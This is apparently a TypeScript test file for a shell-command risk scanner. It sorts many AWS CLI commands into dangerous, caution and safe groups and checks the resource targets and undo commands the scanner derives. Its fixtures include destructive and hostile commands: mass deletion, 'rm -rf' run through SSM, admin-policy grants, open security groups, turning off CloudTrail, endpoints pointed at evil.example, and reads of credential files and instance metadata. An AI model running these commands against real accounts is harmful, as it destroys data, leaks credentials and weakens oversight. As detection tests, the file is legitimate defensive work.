// The threat catalogue's row on AWS (reference/command-safety.md 3.5), class by class: plain and disguised forms reach at least the risk given,
// benign neighbours stay safe. Targets and inverses are compared whole.
import { describe, expect, it } from "vitest";
import { compareRisk } from "../risk.ts";
import { scan } from "../scan.ts";
import type { Risk, Verdict } from "../types.ts";

interface Class {
  readonly id: string;
  readonly dangerous?: readonly string[];
  readonly caution?: readonly string[];
  readonly notSafe?: readonly string[];
  readonly safe: readonly string[];
}

const classes: readonly Class[] = [
  {
    id: "answers that go to a file",
    caution: [
      "aws s3api get-object --bucket media --key a.jpg a.jpg",
      "aws s3api get-object-torrent --bucket media --key a.jpg a.torrent",
      "aws apigateway get-export --rest-api-id r --stage-name prod --export-type swagger api.json",
      "aws glacier get-job-output --account-id - --vault-name v --job-id j out.bin",
      "aws ebs get-snapshot-block --snapshot-id snap-1 --block-index 0 --block-token t block",
      "aws 's3api' get-obj''ect --bucket media --key a.jpg a.jpg",
      "aws s3api get-object --bucket media --key a.jpg --checksum-mode ENABLED /dev/stdout",
    ],
    dangerous: ["aws s3api get-object --bucket b --key k /etc/cron.d/job", "aws lambda invoke --function-name f ~/.ssh/authorized_keys"],
    safe: [
      "aws s3api head-object --bucket media --key a.jpg",
      "aws s3api get-object --bucket media --key notes.txt /dev/stdout",
      "aws apigateway get-stages --rest-api-id r",
    ],
  },
  {
    id: "credentials, keys and addresses that open what is private",
    caution: [
      "aws sts get-session-token",
      "aws sts assume-role --role-arn arn:aws:iam::1:role/r --role-session-name s",
      "aws ecr get-login-password",
      "aws eks get-token --cluster-name c",
      "aws secretsmanager get-secret-value --secret-id db --query SecretString --output text",
      "aws ssm get-parameters-by-path --path /app --recursive --with-decryption",
      "aws ssm get-parameters-by-path --path /app --with-dec",
      "aws kms decrypt --ciphertext-blob fileb://blob",
      "aws ec2 get-password-data --instance-id i-1",
      "aws rds generate-db-auth-token --hostname h --port 5432 --username u",
      "aws configure get aws_secret_access_key --profile prod",
      "aws configure export-credentials --format env",
      "aws s3 presign s3://b/k --expires-in 60",
      "aws lambda get-function --function-name pay --query 'Configuration.Environment.Variables'",
      "aws ecs describe-task-definition --task-definition pay",
      "aws apigateway get-api-key --api-key k --include-value",
    ],
    safe: [
      "aws sts get-caller-identity",
      "aws secretsmanager list-secrets",
      "aws secretsmanager describe-secret --secret-id db",
      "aws ssm get-parameters --names /app/url /app/port",
      "aws kms describe-key --key-id k",
      "aws configure list",
      "aws ecs describe-task-definition --task-definition pay --query 'taskDefinition.containerDefinitions[].image'",
      "aws apigateway get-api-keys",
      "aws lambda get-function --function-name pay --query '{s: Configuration.State, m: Configuration.LastModified}'",
    ],
  },
  {
    id: "changes under the name of a read",
    caution: [
      "aws sqs receive-message --queue-url q --visibility-timeout 0",
      "aws stepfunctions get-activity-task --activity-arn a",
      "aws cloudformation detect-stack-set-drift --stack-set-name s",
      "aws logs start-query --log-group-name g --start-time 1 --end-time 2 --query-string 'fields @message'",
      "aws iam generate-credential-report",
      "aws license-manager check-in-license --license-consumption-token t",
      "aws cognito-identity get-id --identity-pool-id p",
      "aws support resolve-case --case-id c",
      "aws apigateway test-invoke-method --rest-api-id r --resource-id x --http-method GET",
    ],
    safe: [
      "aws sqs get-queue-attributes --queue-url q --attribute-names All",
      "aws cloudformation describe-stack-drift-detection-status --stack-drift-detection-id d",
      "aws logs get-query-results --query-id q",
      "aws iam get-credential-report",
      "aws kinesis get-shard-iterator --stream-name s --shard-id 1 --shard-iterator-type LATEST",
      "aws cognito-idp admin-get-user --user-pool-id p --username u",
      "aws route53 test-dns-answer --hosted-zone-id Z --record-name a.example --record-type A",
    ],
  },
  {
    id: "deletion and other loss for good",
    dangerous: [
      "aws ec2 terminate-instances --instance-ids i-1",
      "aws --region=eu-west-1 'ec2' terminate-instances --instance-ids i-1",
      "aws --prof ec2 --out json rds delete-db-cluster --db-cluster-identifier describe-me",
      "aws sqs purge-queue --queue-url q",
      "aws kms schedule-key-deletion --key-id k",
      "aws ecr batch-delete-image --repository-name r --image-ids imageTag=v1",
      "aws cognito-idp admin-delete-user --user-pool-id p --username u",
      "aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration file://expire.json",
      "aws s3 rm s3://logs --recursive --exclude '*.keep'",
      "aws s3 rb s3://logs --force",
      "aws s3 mv s3://a/k s3://b/k",
      "aws s3 sync . s3://site --dele",
      "aws ec2 release-address --allocation-id e",
      "aws rds promote-read-replica --db-instance-identifier r",
      "aws elasticache test-failover --replication-group-id g --node-group-id 1",
      "aws ec2 purchase-reserved-instances-offering --reserved-instances-offering-id o --instance-count 1",
      "aws cloudformation delete-stack --stack-name prod",
      "for r in eu-west-1 us-east-1; do aws ec2 terminate-instances --region $r --instance-ids i-1; done",
      "aws ec2 stop-instances --instance-ids i-1 --force",
      "aws nosuchservice delete-everything",
    ],
    safe: [
      "aws s3 rm s3://logs --recursive --dryrun",
      "aws ec2 terminate-instances --instance-ids i-1 --dry-run",
      "aws rds delete-db-instance help",
      "aws s3 rb --help",
      "aws ec2 describe-instances --filters Name=tag:Name,Values=delete-me",
      "aws dynamodb create-table --generate-cli-skeleton",
      "aws ec2 wait instance-terminated --instance-ids i-1",
    ],
  },
  {
    id: "help and dry runs that are none",
    dangerous: [
      "aws ec2 terminate-instances --instance-ids i-1 help",
      "aws cloudwatch delete-alarms --alarm-names help",
      "aws cloudwatch delete-alarms --alarm-name help",
      "aws rds delete-db-instance --db-instance-identifier db --dry-run",
      "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dry-run",
      "aws ec2 terminate-instances --instance-ids i-1 --dry-run --no-dr",
      "aws s3 rm s3://b/k --dry-run",
      "aws s3 rm s3://b/k -- --dryrun",
    ],
    safe: ["aws help", "aws ec2 help", "aws ec2 terminate-instances --dry-run --instance-ids i-1", "aws s3 mv a s3://b/a --dryrun"],
  },
  {
    id: "rights, and what watches the account",
    dangerous: [
      "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
      "aws iam create-access-key --user-name u",
      "aws organizations leave-organization",
      "aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false",
      "aws lambda add-permission --function-name f --statement-id s --action lambda:InvokeFunction --principal '*'",
      "aws kms put-key-policy --key-id k --policy-name default --policy file://p",
      "aws ec2 modify-snapshot-attribute --snapshot-id s --attribute createVolumePermission --operation-type add --user-ids 1",
      "aws ec2 authorize-security-group-ingress --group-id g --ip-permissions 'IpProtocol=tcp,FromPort=22,ToPort=22,IpRanges=[{CidrIp=0.0.0.0/0}]'",
      "aws ec2 authorize-security-group-ingress --group-id g --protocol=-1 --cidr=0.0.0.0/0",
      "aws cloudtrail stop-logging --name main",
      "aws configservice stop-configuration-recorder --configuration-recorder-name default",
      "aws sts assume-root --target-principal 1 --task-policy-arn arn=a",
    ],
    caution: ["aws ec2 authorize-security-group-ingress --group-id g --protocol tcp --port 5432 --cidr 10.1.0.0/16"],
    safe: [
      "aws iam simulate-principal-policy --policy-source-arn a --action-names s3:GetObject",
      "aws iam get-account-authorization-details",
      "aws s3api get-public-access-block --bucket b",
      "aws cloudtrail get-trail-status --name main",
    ],
  },
  {
    id: "commands on machines and carried programs",
    dangerous: [
      "aws ssm start-session --target i-1",
      'aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters \'{"commands":["rm -rf /var/lib/mysql"]}\'',
      "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-1 --parameters file://run.json",
      "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-1 --parameters commands=ls --param commands=reboot",
      "aws ssm send-command --document-name My-Doc --instance-ids i-1 --parameters commands=ls",
      "aws ecs execute-command --cluster c --task t --interactive --command 'sh -c \"rm -rf /data\"'",
      "aws ecs execute-command --cluster c --task t --interactive --command sh",
      "aws ec2-instance-connect send-ssh-public-key --instance-id i --instance-os-user ec2-user --ssh-public-key file://k.pub",
      "aws rds-data execute-statement --resource-arn r --secret-arn s --sql 'DELETE FROM orders'",
      "aws redshift-data execute-statement --cluster-identifier c --sql ' drop table orders'",
      "aws dynamodb execute-statement --statement \"DELETE FROM orders WHERE id='1'\"",
      "aws dynamodb execute-statement --statement 'SELECT * FROM t' --state 'DELETE FROM t'",
    ],
    caution: [
      'aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-1 --parameters \'commands=["df -h","free -m"]\'',
      "aws ecs execute-command --cluster c --task t --interactive --command 'cat /etc/hosts'",
      "aws rds-data execute-statement --resource-arn r --secret-arn s --sql 'SELECT count(*) FROM orders'",
      "aws lambda invoke --function-name f out.json",
      "aws dynamodb execute-transaction --transact-statements file://t.json",
    ],
    notSafe: [
      "aws timestream-query query --query-string \"UNLOAD (SELECT * FROM t) TO 's3://x'\"",
      "aws dynamodb execute-statement --statement $S",
    ],
    safe: [
      "aws ssm describe-sessions --state Active",
      "aws ssm get-command-invocation --command-id c --instance-id i-1",
      "aws dynamodb execute-statement --statement 'select * from orders'",
      "aws timestream-query query --query-string 'SELECT 1'",
      "aws rds-data help",
    ],
  },
  {
    id: "requests that go elsewhere or are not seen",
    notSafe: [
      "aws --endpoint-url https://evil.example s3 ls",
      "aws s3 ls --endpoint=https://evil.example",
      "aws ec2 describe-instances --endp https://evil.example",
      "aws ec2 describe-instances --cli-input-json file://request.json",
      "aws ec2 describe-instances --cli-in '{}'",
      "aws ec2 describe-instances --instance-ids --endpoint-url=https://evil.example i-1",
      "aws myalias describe-things",
      "aws ec2 describe-tags --filters file:///root/.aws/credentials",
      "aws ec2 describe-tags --resource-ids=http://169.254.169.254/latest/meta-data/iam/security-credentials/r",
      "AWS_ENDPOINT_URL=https://evil.example aws s3 ls",
      "aws --cli-auto-prompt ec2 describe-instances",
      "aws ec2 $OPERATION",
      "aws sts get-caller-identity $MORE",
      "echo i-1 | xargs aws ec2 describe-instances --instance-ids",
      "aws $SERVICE describe-instances",
    ],
    safe: [
      "aws --region eu-west-1 --profile prod --output json --no-cli-pager --query 'Reservations[].Instances[].InstanceId' ec2 describe-instances",
      "aws dynamodb batch-get-item --request-items file://items.json",
      "aws ec2 describe-instances --max-items 5 --color off --cli-read-timeout 10 --no-paginate",
      'aws ec2 describe-instances --instance-ids "$ID"',
      'aws elbv2 describe-rules --listener-arn "$L" --page-size 20',
      "echo i-1 | xargs -I{} aws ec2 describe-instance-status --instance-ids {}",
    ],
  },
  {
    id: "endless reads",
    caution: [
      "aws logs tail /aws/lambda/pay --follow",
      "aws logs tail /aws/lambda/pay --since 1h --fol",
      "aws logs start-live-tail --log-group-identifiers arn:aws:logs:x",
      "sam logs --tail",
    ],
    safe: ["aws logs tail /aws/lambda/pay --since 1h --format short", "aws rds wait db-instance-available --db-instance-identifier db"],
  },
];

function below(commands: readonly string[] | undefined, least: Risk): readonly string[] {
  return (commands ?? []).filter((command) => compareRisk(scan(command).risk, least) < 0);
}

function not(commands: readonly string[] | undefined, risk: Risk): readonly string[] {
  return (commands ?? []).filter((command) => scan(command).risk !== risk);
}

describe.each(classes)("AWS: $id", ({ dangerous, caution, notSafe, safe }) => {
  it("is dangerous", () => expect(below(dangerous, "dangerous")).toEqual([]));
  it("is caution", () => expect(not(caution, "caution")).toEqual([]));
  it("is not safe", () => expect(below(notSafe, "caution")).toEqual([]));
  it("leaves its neighbours safe", () => expect(not(safe, "safe")).toEqual([]));
});

type Told = Pick<Verdict, "targets" | "inverse">;

const told: Readonly<Record<string, Told>> = {
  "aws ec2 terminate-instances --instance-ids i-1 i-2": {
    targets: [
      { kind: "instance", name: "i-1" },
      { kind: "instance", name: "i-2" },
    ],
  },
  "aws ecs delete-service --cluster prod --service api --force": { targets: [{ kind: "service", name: "api", namespace: "prod" }] },
  "aws s3 rm s3://logs/2025 --recursive": { targets: [{ kind: "s3 address", name: "s3://logs/2025" }] },
  "aws s3api delete-object --bucket b --key k": { targets: [{ kind: "key", name: "k", namespace: "b" }] },
  "aws dynamodb delete-table --table-name orders": { targets: [{ kind: "table", name: "orders" }] },
  "aws logs delete-log-group --log-group-name /aws/x": { targets: [{ kind: "log group", name: "/aws/x" }] },
  "aws ec2 stop-instances --instance-ids i-1 i-2 --region eu-west-1": {
    targets: [
      { kind: "instance", name: "i-1" },
      { kind: "instance", name: "i-2" },
    ],
    inverse: { kind: "command", command: "aws ec2 start-instances --instance-ids i-1 i-2 --region eu-west-1" },
  },
  "aws autoscaling set-desired-capacity --auto-scaling-group-name web --desired-capacity 4 --profile prod": {
    targets: [{ kind: "auto scaling group", name: "web" }],
    inverse: {
      kind: "capture",
      capture:
        "aws autoscaling describe-auto-scaling-groups --auto-scaling-group-names web --query 'AutoScalingGroups[0].DesiredCapacity' --output text --profile prod",
      command: "aws autoscaling set-desired-capacity --auto-scaling-group-name web --desired-capacity {capture} --profile prod",
    },
  },
  "aws ecs update-service --cluster prod --service api --desired-count 3": {
    targets: [{ kind: "service", name: "api", namespace: "prod" }],
    inverse: {
      kind: "capture",
      capture: "aws ecs describe-services --cluster prod --services api --query 'services[0].desiredCount' --output text",
      command: "aws ecs update-service --cluster prod --service api --desired-count {capture}",
    },
  },
  // Two changes, of which the capture would keep one.
  "aws ecs update-service --cluster prod --service api --desired-count 3 --task-definition api:7": {
    targets: [{ kind: "service", name: "api", namespace: "prod" }],
  },
};

describe("AWS: targets and inverses", () => {
  it.each(Object.entries(told))("%s", (command, expected) => {
    const { targets, inverse } = scan(command);
    expect(inverse === undefined ? { targets } : { targets, inverse }).toEqual(expected);
  });

  it("captures only by reads that are safe", () => {
    const captures = Object.keys(told).flatMap((command) => {
      const { inverse } = scan(command);
      return inverse?.kind === "capture" ? [inverse.capture] : [];
    });
    expect(not(captures, "safe")).toEqual([]);
  });
});
